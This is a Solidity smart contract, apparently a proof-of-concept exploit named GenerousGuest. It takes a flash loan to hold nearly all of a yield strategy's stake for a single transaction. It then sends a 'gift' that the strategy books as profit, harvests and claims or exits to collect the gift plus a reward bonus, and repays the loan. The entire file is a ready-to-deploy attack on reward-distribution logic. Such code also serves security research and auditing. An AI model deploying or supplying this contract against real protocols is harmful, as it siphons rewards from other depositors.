// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IToken {
    function approve(address spender, uint256 value) external returns (bool);

    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

interface IStrategy {
    function deposit(uint256 amount) external;

    function depositFor(address account, uint256 amount) external;

    function harvest() external;

    function claim() external;

    function withdraw(uint256 amount) external;

    function exit() external;
}

interface IBank {
    function lend(address token, uint256 amount) external;
}

/// Holds nearly all of the stake for one call, makes a gift that counts as profit, and takes gift and bonus out again.
contract GenerousGuest {
    IStrategy immutable strategy;
    IBank immutable bank;
    IToken immutable dollar;
    IToken immutable coin;
    uint256 stake;
    uint256 gift;
    bool atExit;

    constructor(IStrategy strategy_, IBank bank_, IToken dollar_, IToken coin_) {
        (strategy, bank, dollar, coin) = (strategy_, bank_, dollar_, coin_);
        dollar_.approve(address(strategy_), type(uint256).max);
    }

    function run(uint256 stake_, uint256 gift_, bool atExit_) external {
        (stake, gift, atExit) = (stake_, gift_, atExit_);
        bank.lend(address(dollar), stake_ + gift_);
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }

    function onLoan() external {
        if (atExit) strategy.depositFor(address(this), stake);
        else strategy.deposit(stake);
        dollar.transfer(address(strategy), gift);
        if (atExit) strategy.exit();
        else {
            strategy.harvest();
            strategy.claim();
            strategy.withdraw(stake);
        }
        dollar.transfer(address(bank), stake + gift);
    }
}
